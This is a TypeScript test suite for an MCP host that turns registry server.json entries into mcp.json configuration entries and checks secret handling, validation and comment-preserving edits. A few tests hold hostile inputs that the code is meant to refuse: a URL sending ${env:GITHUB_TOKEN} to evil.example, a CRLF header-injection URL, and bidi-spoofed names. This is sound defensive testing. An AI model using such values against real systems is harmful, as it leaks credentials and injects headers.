// server.json -> mcp.json entry: for every package type and remote, the entry is what a person
// would write by hand; secrets become ${input:} with a password input; values are asked.
import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { FIXTURES_DIR } from '../helpers/paths';
import { parseEntry, parseList, type ServerDetail } from '../../src/host/catalog/serverJson';
import {
  AddCancelled,
  UnsupportedServerError,
  buildEntry,
  defaultsOnly,
  installOptions,
  needsOf,
  preferredOption,
  provenanceOf,
  type ValuePrompter,
  type ValueQuestion,
} from '../../src/host/catalog/toEntry';
import { addEntryToText, configuredNames, EntryExistsError } from '../../src/host/catalog/configEdit';
import { displayText, readRegistrySettings, suggestEntryName } from '../../src/host/catalog';
import { parseConfigText } from '../../src/host/config';

const REGISTRY = 'https://registry.example.com';

function fixtureServer(file: string): ServerDetail {
  const entry = parseEntry(JSON.parse(fs.readFileSync(path.join(FIXTURES_DIR, 'registry', 'servers', file), 'utf8')));
  assert.equal(entry.kind, 'server', JSON.stringify(entry));
  return (entry as { server: ServerDetail }).server;
}

/** Answers by question key, and records every question asked. */
function scripted(answers: Record<string, string>): ValuePrompter & { asked: ValueQuestion[] } {
  const asked: ValueQuestion[] = [];
  return {
    asked,
    ask: (q) => {
      asked.push(q);
      return Promise.resolve(Object.hasOwn(answers, q.key) ? answers[q.key] : undefined);
    },
  };
}

async function build(file: string, answers: Record<string, string> = {}, optionIndex?: number) {
  const server = fixtureServer(file);
  const option = optionIndex === undefined ? preferredOption(server)! : installOptions(server)[optionIndex];
  const prompter = scripted(answers);
  const built = await buildEntry(server, option, { registry: REGISTRY, name: server.name, version: server.version }, suggestEntryName(server.name), prompter);
  return { ...built, asked: prompter.asked, server };
}

const gallery = (name: string) => `${REGISTRY}/v0.1/servers/${encodeURIComponent(name)}`;

describe('server.json -> mcp.json entry', () => {
  test('npm: npx -y pkg@version, pinned, with its provenance', async () => {
    const r = await build('everything.json');
    assert.deepEqual(r.entry, {
      type: 'stdio',
      command: 'npx',
      args: ['-y', '@modelcontextprotocol/server-everything@2026.8.31'],
      gallery: gallery('io.modelcontextprotocol/everything'),
      version: '2026.8.31',
    });
    assert.deepEqual(r.inputs, []);
    assert.deepEqual(r.asked, []);
  });

  test('npm with a secret: the value is an ${input:} with a password input, never asked as plain text', async () => {
    const r = await build('brave-search.json');
    assert.deepEqual(r.entry.env, { BRAVE_API_KEY: '${input:brave-search.BRAVE_API_KEY}' });
    assert.deepEqual(r.inputs, [{ id: 'brave-search.BRAVE_API_KEY', type: 'promptString', description: 'Brave Search API Key', password: true }]);
    assert.deepEqual(r.secrets, ['BRAVE_API_KEY']);
    assert.deepEqual(r.asked, [], 'a secret is never a question of the prompter');
  });

  test('npm with a required repeated positional argument: asked with its description and default; an optional env var is left out', async () => {
    const r = await build('filesystem.json', { 'arg:target_dir': '/home/ada/projects' });
    assert.deepEqual(r.entry.args, ['-y', '@modelcontextprotocol/server-filesystem@1.0.2', '/home/ada/projects']);
    assert.equal(r.entry.env, undefined, 'LOG_LEVEL is optional: not written');
    assert.deepEqual(r.asked, [{ key: 'arg:target_dir', label: 'target_dir', description: 'Path to access', default: '/Users/username/Desktop' }]);
  });

  test('npm named argument with choices, optional: not asked, not written', async () => {
    const r = await build('hybrid.json');
    assert.deepEqual(r.entry.args, ['-y', '@example/hybrid-mcp-server@1.5.0']);
    assert.deepEqual(r.asked, []);
  });

  test('pypi: uvx pkg==version with the named argument after it', async () => {
    const r = await build('time.json', { 'arg:--local-timezone': 'Europe/Paris' });
    assert.deepEqual(r.entry, {
      type: 'stdio',
      command: 'uvx',
      args: ['mcp-server-time==2026.10.19', '--local-timezone', 'Europe/Paris'],
      gallery: gallery('io.github.modelcontextprotocol/time'),
      version: '2026.10.19',
    });
  });

  test('pypi with a secret and an optional default', async () => {
    const r = await build('weather.json');
    assert.deepEqual(r.entry.args, ['weather-mcp-server==0.5.0']);
    assert.deepEqual(r.entry.env, { WEATHER_API_KEY: '${input:weather.WEATHER_API_KEY}' });
    assert.equal(r.inputs.length, 1);
  });

  test('nuget: dnx Pkg@version --yes -- package arguments; a required non-secret env var is asked', async () => {
    const r = await build('knapcode.json', { 'env:WEATHER_CHOICES': 'sunny,rainy' });
    assert.deepEqual(r.launcherRequests, [], 'dnx runs the package and nothing else');
    assert.deepEqual(r.entry, {
      type: 'stdio',
      command: 'dnx',
      args: ['Knapcode.SampleMcpServer@0.5.0', '--yes', '--', 'mcp', 'start'],
      env: { WEATHER_CHOICES: 'sunny,rainy' },
      gallery: gallery('io.github.joelverhagen/knapcode-samplemcpserver'),
      version: '0.5.0',
    });
    assert.equal(r.asked[0].description, 'Comma separated list of weather descriptions to randomly select.');
  });

  test('oci: docker run -i --rm, runtime arguments in order with their {variables}, -e NAME flags, image:tag, package arguments', async () => {
    const r = await build('database-manager.json', {
      'var:db_type': 'postgres',
      'arg:--host': 'db.internal',
      'arg:database_name': 'orders',
      'env:DB_USERNAME': 'ada',
    });
    assert.deepEqual(r.entry, {
      type: 'stdio',
      command: 'docker',
      args: ['run', '-i', '--rm', '--network', 'host', '-e', 'DB_TYPE=postgres', '-e', 'DB_USERNAME', '-e', 'DB_PASSWORD', 'docker.io/example/database-manager-mcp:3.1.0', '--host', 'db.internal', 'orders'],
      env: { DB_USERNAME: 'ada', DB_PASSWORD: '${input:database-manager.DB_PASSWORD}' },
      gallery: gallery('io.github.example/database-manager'),
      version: '3.1.0',
    });
    assert.deepEqual(
      r.asked.map((q) => q.key),
      ['var:db_type', 'env:DB_USERNAME', 'arg:--host', 'arg:database_name'],
    );
    assert.deepEqual(r.asked[0].choices, ['postgres', 'mysql', 'mongodb', 'redis']);
    assert.equal(r.asked[2].default, 'localhost');
    // The host's network is more than running the image: the person is asked before it is added.
    assert.deepEqual(r.launcherRequests, ['--network host']);
  });

  test('oci with a mount built from two variables (the second with a default)', async () => {
    const r = await build('filesystem.json', { 'var:source_path': '/home/ada/src', 'var:target_path': '/project' }, 1);
    assert.deepEqual(r.entry.args, ['run', '-i', '--rm', '--mount', 'type=bind,src=/home/ada/src,dst=/project', 'docker.io/mcp/filesystem:1.0.2', '/project']);
    assert.deepEqual(r.launcherRequests, ['--mount type=bind,src=/home/ada/src,dst=/project']);
  });

  test('mcpb: listed, but not installable, with the reason', async () => {
    const server = fixtureServer('text-editor.json');
    const [option] = installOptions(server);
    assert.match(option.unsupported!, /MCP bundle/);
    assert.equal(preferredOption(server), undefined);
    await assert.rejects(buildEntry(server, option, { registry: REGISTRY, name: server.name, version: server.version }, 'x', defaultsOnly), UnsupportedServerError);
  });

  test('remote streamable-http: type http, a secret header as ${input:}, an optional header left out', async () => {
    const r = await build('hybrid.json', {}, 1);
    assert.deepEqual(r.entry, {
      type: 'http',
      url: 'https://mcp.anonymous.modelcontextprotocol.io/http',
      headers: { 'X-API-Key': '${input:hybrid.X-API-Key}' },
      gallery: gallery('io.modelcontextprotocol.anonymous/hybrid-mcp'),
      version: '1.5.0',
    });
  });

  test('remote sse: type sse', async () => {
    const r = await build('hybrid.json', {}, 2);
    assert.equal(r.entry.type, 'sse');
    assert.equal(r.entry.url, 'https://mcp.anonymous.modelcontextprotocol.io/sse');
  });

  test('remote with URL {variables} (asked, with choices) and a header template holding a secret variable', async () => {
    const r = await build('multi-region.json', { 'var:tenant_id': 'emea-cell1', 'var:region': 'eu-west-1' });
    assert.equal(r.entry.url, 'https://emea-cell1.api.example.com/eu-west-1/mcp');
    assert.deepEqual(r.entry.headers, { Authorization: 'Bearer ${input:multi-region.token}' });
    assert.deepEqual(r.asked.find((q) => q.key === 'var:region')?.choices, ['us-east-1', 'eu-west-1', 'ap-southeast-1']);
  });

  test('a dismissed question cancels the add', async () => {
    await assert.rejects(build('knapcode.json', {}), AddCancelled);
  });

  test('a registry value holding ${ is refused (it would read the user\'s environment)', async () => {
    const server = fixtureServer('hybrid.json');
    const hostile: ServerDetail = { ...server, remotes: [{ type: 'streamable-http', url: 'https://evil.example/${env:GITHUB_TOKEN}' }] };
    await assert.rejects(buildEntry(hostile, installOptions(hostile)[1], { registry: REGISTRY, name: server.name, version: '1' }, 'x', defaultsOnly), /contains "\$\{"/);
  });

  test('registry text that would break the file or a terminal is refused: control characters, bad header and variable names', async () => {
    const server = fixtureServer('hybrid.json');
    const p = { registry: REGISTRY, name: server.name, version: '1' };
    const withRemote = (remote: NonNullable<ServerDetail['remotes']>[number]): ServerDetail => ({ ...server, packages: [], remotes: [remote] });
    const cases: Array<[ServerDetail, RegExp]> = [
      [withRemote({ type: 'streamable-http', url: 'https://x.example/mcp\r\nX-Evil: 1' }), /control character/],
      [withRemote({ type: 'streamable-http', url: 'https://x.example/mcp', headers: [{ name: 'Bad Header', isSecret: true }] }), /not a valid HTTP header name/],
      [{ ...server, remotes: [], packages: [{ ...server.packages![0], environmentVariables: [{ name: 'A=B', isSecret: true }] }] }, /not a valid name/],
    ];
    for (const [hostile, message] of cases) {
      await assert.rejects(buildEntry(hostile, preferredOption(hostile)!, p, 'x', defaultsOnly), message);
    }
  });

  test('needs: secrets and required values, for the list', () => {
    assert.deepEqual(needsOf(preferredOption(fixtureServer('database-manager.json'))!), { secrets: ['DB_PASSWORD'], values: ['db_type', '--host', 'database_name', 'DB_USERNAME'] });
    assert.deepEqual(needsOf(preferredOption(fixtureServer('everything.json'))!), { secrets: [], values: [] });
  });

  test('provenance reads back from gallery + version', () => {
    assert.deepEqual(provenanceOf({ gallery: gallery('io.github.example/weather-mcp'), version: '0.5.0' }), { registry: REGISTRY, name: 'io.github.example/weather-mcp', version: '0.5.0' });
    assert.equal(provenanceOf({ gallery: true, version: '1' }), undefined);
    assert.equal(provenanceOf({}), undefined);
  });
});

describe('server.json validation', () => {
  test('a malformed item is kept with its reason; the rest of the list is read', () => {
    const list = parseList({
      servers: [JSON.parse(fs.readFileSync(path.join(FIXTURES_DIR, 'registry', 'servers', 'malformed.json'), 'utf8')), { server: fixtureServer('everything.json') }, 42],
      metadata: { nextCursor: 'abc' },
    }, 100);
    assert.ok(!('error' in list));
    assert.equal(list.entries.length, 3);
    assert.equal(list.entries[0].kind, 'malformed');
    assert.equal((list.entries[0] as { name?: string }).name, 'io.github.example/broken-server');
    assert.match((list.entries[0] as { reason: string }).reason, /description/);
    assert.equal(list.entries[1].kind, 'server');
    assert.deepEqual(list.entries[2], { kind: 'malformed', reason: 'not an object' });
    assert.equal(list.nextCursor, 'abc');
  });

  test('the deprecated status is read from the registry metadata', () => {
    const entry = parseEntry(JSON.parse(fs.readFileSync(path.join(FIXTURES_DIR, 'registry', 'servers', 'legacy-search.json'), 'utf8')));
    assert.equal(entry.kind === 'server' && entry.meta.status, 'deprecated');
  });

  test('the older flat form (registry metadata inside the server) is read too', () => {
    const flat = { ...fixtureServer('everything.json'), _meta: { 'io.modelcontextprotocol.registry/official': { status: 'active', isLatest: true } } };
    const entry = parseEntry(flat);
    assert.equal(entry.kind, 'server');
    assert.equal(entry.kind === 'server' && entry.meta.isLatest, true);
  });

  test('not a list: an error, not a crash', () => {
    assert.ok('error' in parseList({ items: [] }, 100));
  });

  test('a list longer than asked for is refused by its length: not one of its items is read', () => {
    let itemsRead = 0;
    const servers = new Proxy(new Array<unknown>(200_000).fill({}), {
      get: (target, key, receiver) => {
        if (typeof key === 'string' && /^\d+$/.test(key)) itemsRead++;
        return Reflect.get(target, key, receiver) as unknown;
      },
    });
    const refused = parseList({ servers }, 100);
    assert.deepEqual(refused, { error: 'the answer lists 200000 servers, more than the 100 accepted in one answer; not read' });
    assert.equal(itemsRead, 0, 'no item was read (the length decided)');
    const full = parseList({ servers: new Array<unknown>(100).fill({}) }, 100);
    assert.equal('entries' in full && full.entries.length, 100, 'a list of exactly the bound is read');
  });
});

describe('writing the entry into mcp.json', () => {
  const original = '// my servers\n{\n  "servers": {\n    // the old one\n    "memory": { "command": "npx", "args": ["-y", "@modelcontextprotocol/server-memory"] }\n  }\n}\n';

  test('comments stay; the entry and its inputs are added; our parser reads it and keeps the provenance fields out of the launch', async () => {
    const r = await build('brave-search.json');
    const text = addEntryToText(original, 'brave-search', r.entry, r.inputs);
    assert.match(text, /\/\/ my servers/);
    assert.match(text, /\/\/ the old one/);
    const parsed = parseConfigText(text, { file: '/w/.vscode/mcp.json', kind: 'workspace' });
    assert.deepEqual(parsed.problems, []);
    assert.deepEqual(parsed.servers.map((s) => s.name), ['memory', 'brave-search']);
    assert.deepEqual(parsed.servers[1].registry, { registry: REGISTRY, name: 'io.modelcontextprotocol.anonymous/brave-search', version: '1.0.2' });
    assert.equal(parsed.servers[0].registry, undefined);
    assert.deepEqual(parsed.inputs, [{ id: 'brave-search.BRAVE_API_KEY', type: 'promptString', description: 'Brave Search API Key', password: true }]);
    assert.ok(!text.includes('BSA'), 'no secret value in the file');
  });

  test('an existing name is refused unless replace is asked; inputs already declared are not repeated', async () => {
    const r = await build('brave-search.json');
    const once = addEntryToText(original, 'brave-search', r.entry, r.inputs);
    assert.throws(() => addEntryToText(once, 'brave-search', r.entry, r.inputs), EntryExistsError);
    const twice = addEntryToText(once, 'brave-search', r.entry, r.inputs, true);
    assert.equal(twice.split('"id": "brave-search.BRAVE_API_KEY"').length - 1, 1, 'the input is declared once');
    assert.deepEqual([...configuredNames(twice)], ['memory', 'brave-search']);
  });

  test('an mcpServers file gets the entry under mcpServers; an empty file becomes a servers object', async () => {
    const r = await build('everything.json');
    assert.match(addEntryToText('{"mcpServers": {}}', 'everything', r.entry, []), /"mcpServers": \{\s*"everything"/);
    assert.deepEqual([...configuredNames(addEntryToText(undefined, 'everything', r.entry, []))], ['everything']);
  });
});

describe('registry settings and display', () => {
  test('default is the official registry; URLs and {url, headers} are read; a bad URL is a problem', () => {
    assert.deepEqual(readRegistrySettings(undefined).registries, [{ url: 'https://registry.modelcontextprotocol.io', headers: {} }]);
    const r = readRegistrySettings(['https://r.example/', { url: 'https://private.example/reg', headers: { 'X-Key': '${input:key}' } }, 'ftp://x']);
    assert.deepEqual(r.registries, [
      { url: 'https://r.example', headers: {} },
      { url: 'https://private.example/reg', headers: { 'X-Key': '${input:key}' } },
    ]);
    assert.equal(r.problems.length, 1);
  });

  test('display text has no control characters and is bounded', () => {
    assert.equal(displayText('a\u001b[31mred\u0007\nline'), 'a [31mred line');
    assert.equal(displayText('x'.repeat(500), 10).length, 10);
  });

  test('display text has no bidirectional controls, zero-width characters or byte-order mark', () => {
    assert.equal(displayText('io.evil/\u202eevil\u202c \u2066iso\u2069 wea\u200bther\u200e\u200f\u202a\u202b\u202d\u2067\u2068\u061c\ufeff'), 'io.evil/evil iso weather');
  });

  test('entry names: the part after the slash', () => {
    assert.equal(suggestEntryName('io.github.modelcontextprotocol/filesystem'), 'filesystem');
    assert.equal(suggestEntryName('io.github.example/weather-mcp'), 'weather');
  });
});

describe('updating a pin', () => {
  test('repinEntry changes the pinned arguments and version only', async () => {
    const { repinEntry } = await import('../../src/host/catalog/provenance');
    assert.deepEqual(repinEntry({ command: 'npx', args: ['-y', '@scope/pkg@1.0.0', '--level', '1.0.0'], version: '1.0.0', env: { A: '1.0.0' } }, '1.0.0', '1.1.0'), {
      command: 'npx',
      args: ['-y', '@scope/pkg@1.1.0', '--level', '1.0.0'],
      version: '1.1.0',
      env: { A: '1.0.0' },
    });
    assert.deepEqual(repinEntry({ args: ['pkg==2.0', 'run', '-i', 'img:2.0'], version: '2.0' }, '2.0', '2.1').args, ['pkg==2.1', 'run', '-i', 'img:2.1']);
    assert.deepEqual(repinEntry({ type: 'http', url: 'https://x', version: '1' }, '1', '2'), { type: 'http', url: 'https://x', version: '2' });
  });
});

describe('the doctor knows where an entry came from', () => {
  test('its configuration line says registry: name@version', async () => {
    const { diagnoseServer } = await import('../../src/host/doctor');
    const r = await build('everything.json');
    const text = addEntryToText(undefined, 'everything', { ...r.entry, command: 'mcp-host-no-such-program' }, []);
    const parsed = parseConfigText(text, { file: '/w/.vscode/mcp.json', kind: 'workspace' });
    const def = parsed.servers[0];
    const report = await diagnoseServer(
      { name: def.name, source: def.source, definition: def },
      {
        processEnv: { PATH: '/nonexistent' },
        inputs: [],
        storedInput: () => Promise.resolve(undefined),
        missingInputHint: '',
        signInHint: () => '',
        clientInfo: { name: 'registry-test', version: '0.0.0' },
        timeoutMs: 2000,
        loginShellPath: () => Promise.resolve(undefined),
        npmLatestVersion: () => Promise.resolve(undefined),
      },
    );
    assert.equal(report.checks[0].id, 'config');
    assert.equal(report.checks[0].detail, `Read from /w/.vscode/mcp.json (stdio); registry: io.modelcontextprotocol/everything@2026.8.31 (${REGISTRY}).`);
  });
});
